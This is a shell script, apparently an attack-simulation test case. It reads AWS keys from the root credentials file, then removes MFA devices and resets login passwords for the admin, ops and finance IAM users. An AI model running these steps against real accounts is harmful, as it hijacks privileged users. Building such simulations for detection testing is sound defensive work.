#!/bin/sh
. /opt/case/case.sh

k=$(awk -F' = ' '/key_id/ { print $2 }' /root/.aws/credentials); s=$(awk -F' = ' '/secret/ { print $2 }' /root/.aws/credentials)
for u in admin ops finance; do
    for a in "ListMFADevices&UserName=$u" "DeactivateMFADevice&UserName=$u&SerialNumber=arn:aws:iam::000000000000:mfa/$u" "DeleteVirtualMFADevice&SerialNumber=arn:aws:iam::000000000000:mfa/$u" "UpdateLoginProfile&UserName=$u&Password=Bait-1"; do
        curl -sf --user "$k:$s" --aws-sigv4 aws:amz:us-east-1:iam "http://iam.amazonaws.com/?Action=$a" >/dev/null
    done
done
took_place
